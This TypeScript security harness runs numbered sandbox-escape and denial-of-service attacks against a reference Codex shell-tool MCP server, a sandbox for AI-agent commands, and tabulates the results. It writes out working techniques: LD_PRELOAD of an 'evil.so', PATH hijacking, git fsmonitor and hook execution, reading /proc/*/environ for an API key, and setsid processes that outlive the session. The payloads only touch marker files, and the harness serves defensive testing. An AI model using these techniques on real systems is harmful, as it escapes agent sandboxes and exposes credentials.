/**
 * Not a test: runs the issue-11 attacks against the Rust reference server (`codex-exec-mcp-server` 0.97 from
 * `@openai/codex-shell-tool-mcp`, with its own patched bash and exec wrapper) and prints one line per attack, for
 * the issue note. Usage: `bun test/security/reference-table.ts` (needs the reference dev dependency).
 *
 * The 0.97 server delegates sandboxing to the client's `codexLinuxSandboxExe`: Codex 0.97's own binary
 * (`@openai/codex-0.97`, arg0 `codex-linux-sandbox`), as Codex 0.97 itself would pass it.
 */
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { join } from "node:path";
import { ensureBinary, ROOT } from "../helpers/binary.ts";
import { CONF_BASE, RUN_TMP } from "../helpers/test-dirs.ts";
import { referenceShellToolDir, startReference } from "../helpers/reference.ts";
import {
  buildPreload,
  cpuSeconds,
  fdCount,
  floodProgram,
  idleProgram,
  killWith,
  peakRssMiB,
  pidsWith,
  py,
  rssMiB,
  token,
  waitFor,
  wedgeProgram,
  withDeadline,
} from "../helpers/attack.ts";

const REF = referenceShellToolDir();
if (REF === undefined) throw new Error("reference @openai/codex-shell-tool-mcp not installed");
const CODEX_097 = join(ROOT, "node_modules", "@openai", "codex-0.97", "vendor", "x86_64-unknown-linux-musl", "codex", "codex");
/** Codex 0.97's own binary is its linux-sandbox helper (arg0 dispatch); ours stands in if it is missing. */
const HELPER = existsSync(CODEX_097) ? CODEX_097 : join(ROOT, "dist", "codex-linux-sandbox");
ensureBinary();
console.log(`sandbox helper: ${HELPER}`);
/** The published 0.97 helper was built without bubblewrap (it panics); bwrap rows then say so instead. */
const bwrapProbe = Bun.spawnSync(
  [HELPER, "--sandbox-policy-cwd", "/tmp", "--sandbox-policy", '{"type":"read-only"}', "--use-bwrap-sandbox", "--", "/bin/true"],
  { argv0: "codex-linux-sandbox", stderr: "pipe" } as never,
);
const BWRAP_BROKEN =
  bwrapProbe.exitCode !== 0
    ? `bwrap: n/a (the 0.97 helper fails: ${bwrapProbe.stderr.toString().match(/build-time bubblewrap is not available[^\n]*/)?.[0] ?? `exit ${bwrapProbe.exitCode}`})`
    : undefined;
const BASE = CONF_BASE;
const dir = (p: string) => mkdtempSync(join(BASE, `${p}-`));
const startRef = (o: Partial<Parameters<typeof startReference>[1]> = {}) => startReference(HELPER, { ...o, ws: o.ws ?? dir("ws") });

const rows: [string, string][] = [];
function row(item: string, what: string) {
  rows.push([item, what]);
  console.log(`| ${item} | ${what} |`);
}
/** `ONLY=2,7 bun test/security/reference-table.ts` runs the attacks whose item starts with one of those. */
const ONLY = process.env.ONLY?.split(",");
async function attempt(item: string, f: () => Promise<string>) {
  if (ONLY && !ONLY.some((o) => item.startsWith(o))) return;
  console.error(`running ${item}`);
  try {
    row(item, await f());
  } catch (e) {
    row(item, `error: ${(e as Error).message}`);
  }
}
const WW = { type: "workspace-write", network_access: false };

await attempt("1 wedge", async () => {
  const r = await startRef();
  const attack = r.shell(py(wedgeProgram(40)), 60000);
  await Bun.sleep(2500);
  const t0 = Date.now();
  const v = await withDeadline(r.shell("for i in 1 2 3 4 5; do /bin/true; done; /bin/echo victim-ok", 15000), 20000, "victim").catch(
    (e) => ({ output: String(e) }),
  );
  const vt = Date.now() - t0;
  const tl = await withDeadline(r.rpc.request("tools/list", {}), 20000, "tools/list").then(
    () => "answers",
    (e) => String(e),
  );
  const a = await attack;
  await r.close();
  return `victim ${JSON.stringify(v.output.trim())} in ${vt} ms; tools/list ${tl}; attacker: ${a.output.trim().replace(/\n/g, " / ")}`;
});

await attempt("2 LD_PRELOAD (allow id)", async () => {
  const out: string[] = [];
  for (const [n, rules] of [
    ["bare", 'prefix_rule(pattern=["id"], decision="allow")\n'],
    ["host_executable", 'host_executable(name="id", paths=["/usr/bin/id"])\nprefix_rule(pattern=["id"], decision="allow")\n'],
  ]) {
    try {
      const r = await startRef({ rules, policy: WW });
      const outside = dir("outside");
      buildPreload(join(outside, "m"), join(r.ws, "evil.so"));
      const o = await r.shell("LD_PRELOAD=$PWD/evil.so id");
      out.push(
        `${n}: marker ${existsSync(join(outside, "m")) ? "CREATED (ran outside)" : "absent"}, id: ${o.output.includes("uid=") ? "works" : o.output.slice(0, 80)}`,
      );
      await r.close();
    } catch (e) {
      out.push(`${n}: ${(e as Error).message}`);
    }
  }
  return out.join("; ");
});

await attempt("3 sandbox-written program", async () => {
  const r = await startRef({ rules: 'prefix_rule(pattern=["id"], decision="allow")\n', policy: WW });
  const outside = dir("outside");
  const res: string[] = [];
  for (const [n, cmd] of [
    ["./evil/id", `mkdir -p evil && printf '#!/bin/sh\\ntouch ${outside}/a\\n' > evil/id && chmod +x evil/id && ./evil/id`],
    ["PATH=./evil:$PATH id", `printf '#!/bin/sh\\ntouch ${outside}/b\\n' > evil/id; PATH=./evil:$PATH id`],
  ]) {
    await r.shell(cmd!);
    res.push(`${n}: marker ${existsSync(join(outside, n === "./evil/id" ? "a" : "b")) ? "CREATED" : "absent"}`);
  }
  await r.close();
  return res.join("; ");
});

await attempt("4 git fsmonitor / hook", async () => {
  const r = await startRef({
    rules: 'prefix_rule(pattern=["git", "status"], decision="allow")\nprefix_rule(pattern=["git", "commit"], decision="allow")\n',
    policy: WW,
  });
  const outside = dir("outside");
  await r.shell(`mkdir r && cd r && git init -q && git config core.fsmonitor "touch ${outside}/fs; false" && git status`);
  await r.shell(
    `git init -q r2 && cd r2 && git config user.name a && git config user.email a@b && printf '#!/bin/sh\\ntouch ${outside}/hook\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git commit --allow-empty -qm x`,
  );
  await r.close();
  return `fsmonitor marker ${existsSync(join(outside, "fs")) ? "CREATED" : "absent"}; hook marker ${existsSync(join(outside, "hook")) ? "CREATED" : "absent"}`;
});

await attempt("6 secrets (escalated cat/env)", async () => {
  const secret = `sk-secret-marker-${token()}`;
  const r = await startRef({
    rules: 'prefix_rule(pattern=["cat"], decision="allow")\nprefix_rule(pattern=["env"], decision="allow")\n',
    env: { OPENAI_API_KEY: secret },
    policy: WW,
  });
  const o = await r.shell("cat /proc/self/environ | tr '\\0' '\\n'; env; echo \"shell sees: ${OPENAI_API_KEY:-none}\"");
  await r.close();
  return `escalated programs ${o.output.split(secret).length - 1 > 0 ? "PRINT the key" : "do not print the key"}; ${o.output.match(/shell sees: \S+/)?.[0]}`;
});

await attempt("7 survivors (danger-full-access)", async () => {
  const res: string[] = [];
  const r = await startRef({ rules: 'prefix_rule(pattern=["python3"], decision="allow")\n' });
  const t1 = `300.${process.pid}901`;
  const o1 = await r.shell(`setsid sleep ${t1} >/dev/null 2>&1 </dev/null & sleep 30`, 1500);
  await Bun.sleep(1500);
  res.push(`timeout (timed_out=${o1.timed_out}): setsid sleep ${pidsWith(`sleep\0${t1}`).length ? "SURVIVES" : "killed"}`);
  const t2 = `300.${process.pid}902`;
  await r.shell(
    `python3 -c 'import subprocess; subprocess.Popen(["sleep", "${t2}"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)'`,
  );
  await Bun.sleep(1500);
  res.push(`escalated python3 start_new_session grandchild ${pidsWith(`sleep\0${t2}`).length ? "SURVIVES" : "killed"}`);
  const t3 = `300.${process.pid}903`;
  const p = r.shell(`setsid sleep ${t3} >/dev/null 2>&1 </dev/null & sleep 30`, 60000).catch(() => undefined);
  await waitFor(() => pidsWith(`sleep\0${t3}`).length > 0, 5000);
  await r.close();
  void p;
  await Bun.sleep(1500);
  res.push(`client disconnect: setsid sleep ${pidsWith(`sleep\0${t3}`).length ? "SURVIVES" : "killed"}`);
  for (const t of [t1, t2, t3]) killWith(`sleep\0${t}`);
  return res.join("; ");
});

await attempt("8 flood 16×15 MiB", async () => {
  const r = await startRef();
  await r.shell("/bin/true");
  await Bun.sleep(500);
  const idle = rssMiB(r.pid);
  const o = await r.shell(py(floodProgram(16, 15)), 90000);
  const peak = peakRssMiB(r.pid);
  await Bun.sleep(2000);
  const after = rssMiB(r.pid);
  const v = await withDeadline(r.shell("/bin/echo victim-ok"), 20000, "victim").then((x) => x.output.trim(), String);
  await r.close();
  return `${o.output.trim()}; RSS idle ${idle.toFixed(0)} MiB, peak ${peak.toFixed(0)} MiB, after ${after.toFixed(0)} MiB; victim ${v}`;
});

await attempt("8 idle sessions 20,000", async () => {
  const r = await startRef();
  await r.shell("/bin/true");
  const idleFds = fdCount(r.pid);
  const ready = join(r.ws, "ready");
  const stop = join(r.ws, "stop");
  const a = r.shell(py(idleProgram(20000, ready, stop, 60)), 90000);
  const ok = await waitFor(() => existsSync(ready), 60000);
  const held = fdCount(r.pid);
  const v = await withDeadline(r.shell("for i in 1 2 3; do /bin/true; done; /bin/echo victim-ok", 15000), 20000, "victim").then(
    (x) => x.output.trim(),
    String,
  );
  await Bun.write(stop, "");
  const ao = await a;
  await Bun.sleep(1000);
  const after = fdCount(r.pid);
  const bad = r.stderr().split("Bad file descriptor").length - 1;
  await r.close();
  return `handed ${ok ? "all" : "not all within 60 s"} (${ao.output.trim()}); server fds idle ${idleFds}, held ${held}, after ${after}; victim ${JSON.stringify(v)}; 'Bad file descriptor' lines ${bad}`;
});

await attempt("9 timeout_ms 2^31 / 2^32", async () => {
  const r = await startRef();
  const out: string[] = [];
  for (const t of [2 ** 31, 2 ** 32]) {
    const c0 = cpuSeconds(r.pid);
    const o = await r.shell("sleep 2; echo done", t);
    out.push(`${t}: ${o.error ?? JSON.stringify(o.output.trim())}, CPU ${(cpuSeconds(r.pid) - c0).toFixed(2)} s`);
  }
  await r.close();
  return out.join("; ");
});

await attempt("9 huge JSON-RPC line", async () => {
  const out: string[] = [];
  for (const mb of [10, 50]) {
    const r = await startRef();
    const pad = "a".repeat(mb * 1e6 - 80); // the whole request line is ~mb MB
    const t0 = performance.now();
    const reply = withDeadline(r.rpc.request("tools/list", { pad }), 60000, `${mb} MB`).then(
      (m) => (m.error ? `error ${JSON.stringify(m.error).slice(0, 80)}` : "answered"),
      (e) => String(e),
    );
    const what = await reply;
    const ms = performance.now() - t0;
    const after = await withDeadline(r.rpc.request("tools/list", {}), 10000, "after").then(
      () => "answers after",
      (e) => String(e),
    );
    out.push(`${mb} MB: ${what} in ${ms.toFixed(0)} ms, ${after}`);
    await r.close();
  }
  return out.join("; ");
});

await attempt("5 .git under /tmp (bwrap)", async () => {
  const out: string[] = [];
  for (const bwrap of [true, false]) {
    if (bwrap && BWRAP_BROKEN) {
      out.push(BWRAP_BROKEN);
      continue;
    }
    const ws = mkdtempSync("/tmp/shellmcp-refproj-");
    Bun.spawnSync(["git", "init", "-q", ws]);
    const r = await startRef({ policy: WW, bwrap, ws });
    const o = await r.shell("echo '[x]' >> .git/config; echo rc=$?");
    out.push(`${bwrap ? "bwrap" : "landlock"}: write .git/config ${o.output.includes("rc=0") ? "SUCCEEDS" : "fails"}`);
    await r.close();
    rmSync(ws, { recursive: true, force: true });
  }
  return out.join("; ");
});

await attempt("6 secrets (sandboxed /proc/*/environ)", async () => {
  const out: string[] = [];
  for (const bwrap of [false, true]) {
    if (bwrap && BWRAP_BROKEN) {
      out.push(BWRAP_BROKEN);
      continue;
    }
    const secret = `sk-secret-marker-${token()}`;
    const r = await startRef({ env: { OPENAI_API_KEY: secret }, policy: WW, bwrap });
    const o = await r.shell(`{ cat /proc/$PPID/environ; cat /proc/*/environ; } 2>/dev/null | tr '\\0' '\\n' | grep -c -F '${secret}'`);
    out.push(`${bwrap ? "bwrap" : "landlock"}: ${o.output.trim()} environment(s) with the key readable`);
    await r.close();
  }
  return out.join("; ") + " (the reference's shell itself gets the key: it has no env policy)";
});

await attempt("7 survivors (sandboxed)", async () => {
  const out: string[] = [];
  for (const bwrap of [false, true]) {
    if (bwrap && BWRAP_BROKEN) {
      out.push(BWRAP_BROKEN);
      continue;
    }
    const r = await startRef({ policy: WW, bwrap });
    const t = `300.${process.pid}91${bwrap ? 1 : 0}`;
    await r.shell(`setsid sleep ${t} >/dev/null 2>&1 </dev/null & sleep 30`, 1500);
    await Bun.sleep(1500);
    out.push(`${bwrap ? "bwrap" : "landlock"} timeout: setsid sleep ${pidsWith(`sleep\0${t}`).length ? "SURVIVES" : "killed"}`);
    killWith(`sleep\0${t}`);
    await r.close();
  }
  return out.join("; ");
});

await attempt("10 network off: socketpair send / UDP sendto", async () => {
  const out: string[] = [];
  for (const bwrap of [false, true]) {
    if (bwrap && BWRAP_BROKEN) {
      out.push(BWRAP_BROKEN);
      continue;
    }
    const r = await startRef({ policy: WW, bwrap });
    const a = await r.shell(
      py(
        'import socket\na, b = socket.socketpair()\ntry:\n    a.send(b"x"); print("send ok", b.recv(1))\nexcept OSError as e:\n    print("send DENIED", e.errno)',
      ),
    );
    const u = await r.shell(
      py(
        'import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 9)); print("udp SENT")\nexcept OSError as e:\n    print("udp denied", e.errno)',
      ),
    );
    out.push(`${bwrap ? "bwrap" : "landlock"}: ${a.output.trim()}, ${u.output.trim()}`);
    await r.close();
  }
  return out.join("; ");
});

console.log("\n| attack | Rust reference 0.97 |\n| --- | --- |");
for (const [a, b] of rows) console.log(`| ${a} | ${b} |`);
for (const d of [CONF_BASE, RUN_TMP]) rmSync(d, { recursive: true, force: true });
process.exit(0);
